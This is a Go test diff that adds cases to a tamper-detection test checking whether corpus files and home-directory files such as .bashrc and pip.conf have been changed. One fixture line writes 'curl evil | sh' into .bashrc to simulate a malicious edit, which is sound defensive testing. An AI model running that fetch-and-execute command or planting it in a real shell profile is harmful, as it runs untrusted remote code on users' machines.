@@ -72,6 +72,12 @@ func TestUntouched(t *testing.T) {
 				}, disguised},
 				{"removed a case", func() { os.Remove("corpus/esc/b.txtar") }, []string{"corpus/esc/b.txtar"}},
 				{"edited .bashrc", func() { write("home/.bashrc", "curl evil | sh") }, []string{filepath.Join(home, ".bashrc")}},
+				{"touched .bashrc, same content", func() {
+					later := time.Now().Add(2 * time.Hour)
+					os.Chtimes("home/.bashrc", later, later)
+				}, nil},
+				{"planted pip.conf", func() { write("home/.config/pip/pip.conf", "[global]") }, []string{filepath.Join(home, ".config/pip/pip.conf")}},
+				{"removed .bashrc", func() { os.Remove("home/.bashrc") }, []string{filepath.Join(home, ".bashrc")}},
 				{"a package build's output", func() { write("corpus/esc/pkg/build/x.o", "x") }, nil},
 				// Only folders of those names are a build's: a file named
 				// like one is the case's like any other.
